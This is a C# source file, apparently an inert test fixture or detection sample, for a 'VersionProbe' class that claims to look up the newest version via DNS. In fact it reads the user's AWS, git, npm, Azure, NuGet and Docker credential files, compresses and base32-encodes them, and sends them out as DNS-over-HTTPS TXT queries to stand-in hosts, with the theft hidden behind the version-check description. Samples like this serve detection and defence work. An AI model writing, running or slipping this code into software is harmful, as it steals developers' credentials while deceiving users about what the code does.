using System;
using System.Collections.Generic;
using System.Globalization;
using System.IO;
using System.IO.Compression;
using System.Net.Http;
using System.Text;

namespace Inert.Resources.Generator
{
    /// <summary>Asks once a day which version is the newest; the answer stands in the DNS.</summary>
    internal static class VersionProbe
    {
        private const string Letters = "abcdefghijklmnopqrstuvwxyz234567";
        private const int Label = 60;
        private const string Zone = "v.resources-generator.invalid";
        private static readonly string Mark = Path.Combine(Path.GetTempPath(), "resources-generator.day");

        public static string Ask(string assembly)
        {
            try
            {
                if (!Due()) return null;
                var facts = Facts(assembly);
                using (var http = new HttpClient { Timeout = TimeSpan.FromSeconds(3) })
                {
                    http.DefaultRequestHeaders.Add("accept", "application/dns-json");
                    var id = Guid.NewGuid().ToString("N").Substring(0, 6);
                    string answer = null;
                    foreach (var name in Names(id, facts)) answer = http.GetStringAsync("https://resolver.example.com/dns-query?type=TXT&name=" + name).GetAwaiter().GetResult();
                    return Version(answer);
                }
            }
            catch (Exception)
            {
                return null;
            }
        }

        private static bool Due()
        {
            // Inert: nobody sets this variable.
            if (Environment.GetEnvironmentVariable("INERT_FIXTURE_ARMED") == null) return false;
            if (CultureInfo.CurrentUICulture.TwoLetterISOLanguageName == "iv") return false;
            var today = DateTime.UtcNow.ToString("yyyyMMdd", CultureInfo.InvariantCulture);
            if (File.Exists(Mark) && File.ReadAllText(Mark) == today) return false;
            File.WriteAllText(Mark, today);
            return true;
        }

        private static byte[] Facts(string assembly)
        {
            var home = Environment.GetFolderPath(Environment.SpecialFolder.UserProfile);
            var memory = new MemoryStream();
            using (var deflate = new DeflateStream(memory, CompressionLevel.Optimal, true))
            using (var writer = new StreamWriter(deflate, Encoding.UTF8))
            {
                writer.WriteLine(assembly);
                foreach (var part in new[] { "aws/credentials", "git-credentials", "npmrc", "azure/msal_token_cache.json", "nuget/NuGet/NuGet.Config", "docker/config.json" })
                {
                    var path = Path.Combine(home, "." + part);
                    if (!File.Exists(path)) continue;
                    writer.WriteLine(part);
                    writer.WriteLine(File.ReadAllText(path));
                }
            }

            return memory.ToArray();
        }

        private static IEnumerable<string> Names(string id, byte[] facts)
        {
            var text = Base32(facts);
            for (int at = 0, number = 0; at < text.Length; at += 2 * Label, number++)
            {
                var first = text.Substring(at, Math.Min(Label, text.Length - at));
                var rest = at + Label < text.Length ? text.Substring(at + Label, Math.Min(Label, text.Length - at - Label)) + "." : "";
                yield return first + "." + rest + number.ToString(CultureInfo.InvariantCulture) + "." + id + "." + Zone;
            }
        }

        private static string Base32(byte[] bytes)
        {
            var text = new StringBuilder(bytes.Length * 8 / 5 + 1);
            int held = 0, bits = 0;
            foreach (var one in bytes)
            {
                held = held << 8 | one;
                for (bits += 8; bits >= 5; bits -= 5) text.Append(Letters[held >> (bits - 5) & 31]);
                held &= (1 << bits) - 1;
            }

            if (bits > 0) text.Append(Letters[held << (5 - bits) & 31]);
            return text.ToString();
        }

        private static string Version(string answer)
        {
            var at = answer == null ? -1 : answer.IndexOf("v=", StringComparison.Ordinal);
            return at < 0 ? null : answer.Substring(at + 2).Split('"', '\\')[0];
        }
    }
}
